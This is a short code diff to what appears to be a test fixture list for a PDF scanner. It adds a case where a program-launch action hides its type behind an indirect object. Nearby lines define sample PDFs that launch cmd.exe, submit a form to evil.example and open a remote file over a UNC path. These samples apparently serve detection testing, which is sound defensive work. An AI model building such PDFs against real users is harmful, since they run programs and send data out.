@@ -99,6 +99,7 @@ PDFS = (
     _pdf("a page that acts", lambda: with_root(zoo_pdf.page_action), portable.ACTIVE),
     _pdf("opens a site after the view", lambda: with_root(zoo_pdf.opens_a_site_next), portable.ACTIVE),
     _pdf("starts a program", _act(S=Name.Launch, F=String("cmd.exe")), portable.ACTIVE),
+    _pdf("starts a program whose kind is an object of its own", lambda: with_root(zoo_pdf.program_behind_names), portable.ACTIVE),
     _pdf("sends a form", _act(S=Name.SubmitForm, F=String("https://evil.example/")), portable.ACTIVE),
     _pdf("reads another computer's file", _act(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0])), portable.ACTIVE),
     _pdf("a file inside", lambda: with_root(zoo_pdf.attachment), portable.ATTACHED),
